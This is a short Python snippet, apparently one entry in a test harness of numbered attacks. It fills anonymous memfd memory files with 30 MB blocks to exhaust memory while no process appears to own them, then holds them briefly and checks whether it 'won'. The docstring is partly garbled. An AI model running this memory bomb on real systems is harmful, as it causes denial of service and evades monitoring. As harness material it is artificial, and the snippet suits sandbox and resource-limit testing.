"""104 memory: files in memory that are mapped nowhere, so that no process seems to have them.

Evidence: said - they are held for half a second.
"""


def attack():
    files = []
    for _ in range(TARGETS["bomb_mb"] // 30):
        files.append(os.memfd_create("bomb"))
        os.write(files[-1], b"x" * (30 << 20))
    time.sleep(0.5)
    return won()
